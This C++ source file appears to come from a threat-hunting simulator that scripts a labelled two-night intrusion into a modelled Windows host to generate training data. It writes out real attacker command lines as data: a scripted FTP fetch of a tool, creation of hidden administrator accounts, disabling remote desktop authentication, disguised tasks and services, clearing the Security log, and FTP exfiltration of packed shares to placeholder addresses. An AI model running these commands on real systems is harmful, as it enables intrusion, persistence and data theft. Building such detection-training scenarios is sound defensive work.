#include "scenario/attack.hpp"

#include <array>
#include <functional>
#include <memory>
#include <utility>

#include <fmt/format.h>

namespace huntbook::scenario {

namespace {

constexpr std::string_view credential_access = "credential access";
constexpr std::string_view initial_access = "initial access";
constexpr std::string_view discovery = "discovery";
constexpr std::string_view command_and_control = "command and control";
constexpr std::string_view persistence = "persistence";
constexpr std::string_view defense_evasion = "defense evasion";
constexpr std::string_view collection = "collection";
constexpr std::string_view exfiltration = "exfiltration";

constexpr std::string_view net = "C:\\Windows\\System32\\net.exe";
constexpr std::string_view reg = "C:\\Windows\\System32\\reg.exe";
constexpr std::string_view console = "C:\\Windows\\System32\\conhost.exe";

// A sequence of things done one after another, each labelled.
class Script {
 public:
  Script(WindowsHost& host, Ticks begin, std::string_view name)
      : host_(host), time_(begin), random_(host.seed(), name) {}

  // Does `action` about `mean` after the thing before.
  void then(Ticks mean, std::string_view stage, std::string what, std::function<void()> action) {
    time_ += random_.around(mean);
    host_.timeline().at(time_, [&host = host_, label = Label{stage, std::move(what)}, action = std::move(action)] {
      host.set_label(label);
      action();
      host.set_label(std::nullopt);
    });
  }
  Random& random() { return random_; }

 private:
  WindowsHost& host_;
  Ticks time_;
  Random random_;
};

// What the attacker's hands are on: known only once the logon has happened.
struct Foothold {
  Session session;
  Process shell;
};

using SharedFoothold = std::shared_ptr<Foothold>;

void run(Script& script, WindowsHost& host, const SharedFoothold& foothold, std::string_view stage, std::string what,
         std::string_view path, std::string command_line, std::function<void(const Process&)> effect = {}) {
  script.then(20 * ticks_per_second, stage, std::move(what),
              [&host, foothold, path, command_line = std::move(command_line), effect = std::move(effect)] {
                const Process process = host.start(foothold->session, foothold->shell, std::string(path), command_line);
                if (effect) effect(process);
              });
}

void guess_passwords(Script& script, WindowsHost& host) {
  constexpr std::array<std::string_view, 12> names = {"administrator", "admin",  "user",      "scanner",
                                                      "office",        "backup", "test",      "support",
                                                      "itsupport",     "sql",    "reception", "owner"};
  const Source attacker{std::string(guessing_address), "WIN-3K1NP0RT"};
  for (int attempt = 0; attempt < 216; ++attempt) {
    // Towards the end the guesses go to the one name that exists.
    const bool exists = attempt > 150;
    const std::string_view name = exists ? "itsupport" : names[script.random().below(names.size())];
    script.then(5 * ticks_per_second, credential_access, fmt::format("password guessed for {}", name),
                [&host, name, attacker] {
                  host.fail_log_on(name, "", LogonType::Network, attacker,
                                   name == "itsupport" ? LogonFailure::WrongPassword : LogonFailure::UnknownUser);
                });
  }
}

void enter(Script& script, WindowsHost& host, const SharedFoothold& foothold, const Account& account,
           const Source& source) {
  script.then(5 * ticks_per_second, initial_access, fmt::format("{} logs on over the network", account.name),
              [&host, account, source] { host.log_off(host.log_on(account, LogonType::Network, source)); });
  script.then(40 * ticks_per_second, initial_access, fmt::format("{} opens a remote desktop", account.name),
              [&host, foothold, account, source] {
                foothold->session = host.log_on(account, LogonType::RemoteInteractive, source);
              });
  script.then(50 * ticks_per_second, initial_access, "command prompt opened", [&host, foothold] {
    foothold->shell = host.start(foothold->session, foothold->session.shell, "C:\\Windows\\System32\\cmd.exe",
                                 "\"C:\\Windows\\system32\\cmd.exe\"");
    host.start(foothold->session, foothold->shell, std::string(console),
               "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
  });
}

void look_around(Script& script, WindowsHost& host, const SharedFoothold& foothold) {
  const auto look = [&](std::string what, std::string_view path, std::string command_line) {
    run(script, host, foothold, discovery, std::move(what), path, std::move(command_line));
  };
  look("own rights read", "C:\\Windows\\System32\\whoami.exe", "whoami  /all");
  look("system read", "C:\\Windows\\System32\\systeminfo.exe", "systeminfo");
  look("network read", "C:\\Windows\\System32\\ipconfig.exe", "ipconfig  /all");
  run(script, host, foothold, discovery, "users enumerated", net, "net  user",
      [&host, foothold](const Process& process) {
        for (int id : {500, 1009, 1021}) {
          const std::string_view name = id == 500 ? "Administrator" : id == 1009 ? "itsupport" : "r.okafor";
          host.enumerate_groups_of(foothold->session, process, host.local_account(std::string(name), id));
        }
      });
  run(script, host, foothold, discovery, "administrators enumerated", net, "net  localgroup administrators",
      [&host, foothold](const Process& process) {
        host.enumerate_group(foothold->session, process, "Administrators", 544);
      });
  look("processes and services listed", "C:\\Windows\\System32\\tasklist.exe", "tasklist  /svc");
  look("sessions listed", "C:\\Windows\\System32\\query.exe", "query  user");
  look("neighbours listed", net, "net  view /all");
}

void fetch_tools(Script& script, WindowsHost& host, const SharedFoothold& foothold) {
  run(script, host, foothold, command_and_control, "ftp script written", "C:\\Windows\\System32\\cmd.exe",
      "cmd  /c echo open 203.0.113.77 21> c:\\windows\\temp\\g.dat & echo user w w>> c:\\windows\\temp\\g.dat & echo "
      "get tsx.exe>> c:\\windows\\temp\\g.dat & echo bye>> c:\\windows\\temp\\g.dat");
  run(script, host, foothold, command_and_control, "tool fetched by scripted ftp", "C:\\Windows\\System32\\ftp.exe",
      "ftp  -n -s:c:\\windows\\temp\\g.dat");
  run(script, host, foothold, command_and_control, "fetched tool run", "C:\\Windows\\Temp\\tsx.exe",
      "tsx.exe  -p 3389 -m");
  run(script, host, foothold, defense_evasion, "ftp script removed", "C:\\Windows\\System32\\cmd.exe",
      "cmd  /c del /q c:\\windows\\temp\\g.dat");
}

void stay(Script& script, WindowsHost& host, const SharedFoothold& foothold) {
  const std::array<Account, 2> users = {host.local_account("helpdesk2", 1022, true),
                                        host.local_account("DefaultUser1", 1023, true)};
  for (const Account& user : users) {
    run(script, host, foothold, persistence, fmt::format("user {} added", user.name), net,
        fmt::format("net  user {} Qw3rty!{} /add", user.name, user.name.size()),
        [&host, foothold, user](const Process&) { host.create_user(foothold->session, user); });
    run(script, host, foothold, persistence, fmt::format("{} made an administrator", user.name), net,
        fmt::format("net  localgroup Administrators {} /add", user.name),
        [&host, foothold, user](const Process&) { host.add_to_group(foothold->session, user, "Administrators", 544); });
    run(script, host, foothold, persistence, fmt::format("{} let in over remote desktop", user.name), net,
        fmt::format("net  localgroup \"Remote Desktop Users\" {} /add", user.name),
        [&host, foothold, user](const Process&) {
          host.add_to_group(foothold->session, user, "Remote Desktop Users", 555);
        });
    run(script, host, foothold, defense_evasion, fmt::format("{} hidden from the logon screen", user.name), reg,
        fmt::format(
            "reg  add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList\" "
            "/v {} /t REG_DWORD /d 0 /f",
            user.name));
  }
  const std::string_view terminal_server = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server";
  run(script, host, foothold, defense_evasion, "remote desktop connections allowed", reg,
      fmt::format("reg  add \"{}\" /v fDenyTSConnections /t REG_DWORD /d 0 /f", terminal_server));
  run(script, host, foothold, defense_evasion, "network level authentication switched off", reg,
      fmt::format("reg  add \"{}\\WinStations\\RDP-Tcp\" /v UserAuthentication /t REG_DWORD /d 0 /f", terminal_server));
  run(script, host, foothold, defense_evasion, "several sessions a user allowed", reg,
      fmt::format("reg  add \"{}\" /v fSingleSessionPerUser /t REG_DWORD /d 0 /f", terminal_server));
  run(script, host, foothold, defense_evasion, "session limits removed", reg,
      "reg  delete \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services\" /v MaxIdleTime /f");
  run(script, host, foothold, defense_evasion, "firewall opened for remote desktop", "C:\\Windows\\System32\\netsh.exe",
      "netsh  advfirewall firewall add rule name=\"Windows Update Helper\" dir=in action=allow protocol=TCP "
      "localport=3389");
  run(script, host, foothold, persistence, "task registered", "C:\\Windows\\System32\\schtasks.exe",
      "schtasks  /create /tn \"WindowsUpdateHelper\" /tr C:\\Windows\\Temp\\tsx.exe /sc onstart /ru SYSTEM /f",
      [&host, foothold](const Process&) {
        host.write_task(foothold->session, "\\WindowsUpdateHelper", "C:\\Windows\\Temp\\tsx.exe", false);
      });
  run(script, host, foothold, persistence, "service installed", "C:\\Windows\\System32\\sc.exe",
      "sc  create wuhlp binPath= C:\\Windows\\Temp\\tsx.exe start= auto", [&host, foothold](const Process&) {
        host.install_service(foothold->session, "wuhlp", "C:\\Windows\\Temp\\tsx.exe");
      });
}

void clear_traces(Script& script, WindowsHost& host, const SharedFoothold& foothold) {
  run(script, host, foothold, defense_evasion, "security log cleared", "C:\\Windows\\System32\\wevtutil.exe",
      "wevtutil  cl Security", [&host, foothold](const Process&) { host.clear_log(foothold->session); });
}

void leave(Script& script, WindowsHost& host, const SharedFoothold& foothold, std::string_view stage) {
  script.then(30 * ticks_per_second, stage, "attacker logs off",
              [&host, foothold] { host.log_off(foothold->session); });
}

void carry_away(Script& script, WindowsHost& host, const SharedFoothold& foothold) {
  for (std::string_view share : {"Accounts", "Contracts", "Personnel"}) {
    run(script, host, foothold, collection, fmt::format("share {} packed", share), "C:\\Windows\\Temp\\r.exe",
        fmt::format("r.exe  a -hpZx19 -v200m -m3 c:\\windows\\temp\\{}.dat D:\\Shares\\{}", share.substr(0, 2), share));
  }
  run(script, host, foothold, exfiltration, "ftp script written", "C:\\Windows\\System32\\cmd.exe",
      "cmd  /c echo open 198.51.100.23 21> c:\\windows\\temp\\p.dat & echo user w w>> c:\\windows\\temp\\p.dat & echo "
      "mput *.dat>> c:\\windows\\temp\\p.dat");
  run(script, host, foothold, exfiltration, "archives sent by scripted ftp", "C:\\Windows\\System32\\ftp.exe",
      "ftp  -n -i -s:c:\\windows\\temp\\p.dat");
  run(script, host, foothold, defense_evasion, "archives removed", "C:\\Windows\\System32\\cmd.exe",
      "cmd  /c del /q c:\\windows\\temp\\*.dat");
}

}  // namespace

void attack(WindowsHost& host, const Period& period) {
  // The night to the second Saturday, when nobody works.
  Script first(host, period.begin + 12 * ticks_per_day + 3 * ticks_per_hour, "attack, first night");
  auto foothold = std::make_shared<Foothold>();
  guess_passwords(first, host);
  enter(first, host, foothold, host.local_account("itsupport", 1009, true),
        {std::string(guessing_address), "WIN-3K1NP0RT"});
  look_around(first, host, foothold);
  fetch_tools(first, host, foothold);
  stay(first, host, foothold);
  clear_traces(first, host, foothold);
  leave(first, host, foothold, initial_access);

  // The next night, from another address, with the account made for it.
  Script second(host, period.begin + 13 * ticks_per_day + 4 * ticks_per_hour, "attack, second night");
  auto return_foothold = std::make_shared<Foothold>();
  enter(second, host, return_foothold, host.local_account("helpdesk2", 1022, true),
        {std::string(returning_address), "WIN-3K1NP0RT"});
  carry_away(second, host, return_foothold);
  clear_traces(second, host, return_foothold);
  leave(second, host, return_foothold, exfiltration);
}

}  // namespace huntbook::scenario
